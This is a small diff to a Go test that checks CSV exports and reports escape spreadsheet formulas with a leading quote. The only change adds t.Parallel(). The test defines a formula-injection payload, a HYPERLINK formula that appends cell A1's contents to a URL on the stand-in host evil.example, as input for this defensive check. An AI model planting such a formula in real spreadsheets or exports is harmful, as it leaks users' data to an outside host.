@@ -18,6 +18,7 @@ import (
 // (export -format csv, to stdout and to files, and report -format csv):
 // the name appears with a leading quote, never bare.
 func TestCSVOutputsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
 	path := demoData(t)
 	var id string
